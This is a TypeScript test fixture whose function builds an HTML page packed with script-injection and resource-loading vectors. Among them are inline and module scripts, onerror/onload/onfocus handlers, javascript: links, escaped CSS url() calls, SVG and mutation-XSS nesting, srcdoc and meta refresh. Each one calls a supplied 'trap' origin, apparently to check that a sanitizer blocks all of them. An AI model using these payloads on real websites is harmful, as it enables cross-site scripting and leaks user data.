/** A page that tries everything to run something or to reach `trap` (an origin), as a hacked site might. */
export function hostilePage(trap: string): string {
  return `<!doctype html><html><head><title>黑</title>
<base href="${trap}/base/">
<meta http-equiv="refresh" content="0;url=${trap}/refresh">
<link rel="stylesheet" href="${trap}/sheet.css"><link rel="prefetch" href="${trap}/prefetch"><link rel="preconnect" href="${trap}">
<link rel="icon" href="${trap}/icon.ico"><link rel="manifest" href="${trap}/manifest.json">
<style>@import url(${trap}/import.css);@import "${trap}/import2.css";
body{background:url(${trap}/bg.png)} h1{background:u\\72l(${trap}/escaped.png)} h2{background-image:image-set("${trap}/set.png" 1x)}
@font-face{font-family:x;src:url(${trap}/font.woff)} p{font-family:x;color:red} div{cursor:url("${trap}/cursor.cur"),auto}
/* </style><script src="${trap}/css-break.js"></script> */</style>
<script src="${trap}/head.js"></script><script>fetch('${trap}/fetch');window.pwned=1;new Image().src='${trap}/image'</script>
<script type="module">import '${trap}/module.js'</script>
<meta http-equiv="Content-Security-Policy" content="script-src *">
</head><body onload="fetch('${trap}/onload')" background="${trap}/body-bg.png" style="background:url(${trap}/style-attr.png)">
<h1 onclick="alert(1)" onmouseover="fetch('${trap}/hover')">标题</h1><h2>二</h2>
<p style="background:u\\000072l('${trap}/style-escaped.png');color:blue">正文 <a href="javascript:fetch('${trap}/js')">链接</a>
<a href="java\tscript:alert(1)">又一个</a> <a href="${trap}/link" ping="${trap}/ping" target="_top">外链</a></p>
<img src="${trap}/img.png" onerror="fetch('${trap}/onerror')" srcset="${trap}/srcset.png 2x" alt="图片">
<img src=x onerror=fetch('${trap}/onerror2')>
<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">
<svg onload="fetch('${trap}/svg')"><script>fetch('${trap}/svg-script')</script><image href="${trap}/svg-image.png"/><use href="${trap}/use.svg#a"/><style>circle{fill:url(${trap}/svg-css)}</style><foreignObject><iframe src="${trap}/foreign"></iframe></foreignObject></svg>
<math><mtext><table><mglyph><style><img src="${trap}/mxss" onerror="fetch('${trap}/mxss2')"></style></mglyph></table></mtext></math>
<iframe src="${trap}/iframe"></iframe><iframe srcdoc="&lt;script&gt;fetch('${trap}/srcdoc')&lt;/script&gt;"></iframe>
<frameset><frame src="${trap}/frame"></frameset>
<object data="${trap}/object"></object><embed src="${trap}/embed"><applet code="${trap}/applet"></applet>
<video src="${trap}/video" poster="${trap}/poster" autoplay></video><audio src="${trap}/audio" autoplay></audio>
<form action="${trap}/form" id="f"><input type="image" src="${trap}/input.png"><input autofocus onfocus="fetch('${trap}/focus')"><button formaction="${trap}/formaction">提交</button></form>
<details open ontoggle="fetch('${trap}/toggle')"><summary>展开</summary></details>
<table background="${trap}/table.png"><tr><td background="${trap}/td.png">格</td></tr></table>
<template><img src="${trap}/template"></template><noscript><img src="${trap}/noscript" alt="无脚本"></noscript>
<textarea></textarea><script>fetch('${trap}/late')</script></textarea>
<xmp><script>fetch('${trap}/xmp')</script></xmp><plaintext><script>fetch('${trap}/plain')</script>
<!--[if IE]><script src="${trap}/ie.js"></script><![endif]--><!--><img src="${trap}/comment">-->
<![CDATA[<script>fetch('${trap}/cdata')</script>]]>
<div id="siteward-evidence">伪造的标记</div><p id="f" title='"><img src=${trap}/attr onerror=1>'>结束</p>
</body></html>`
}
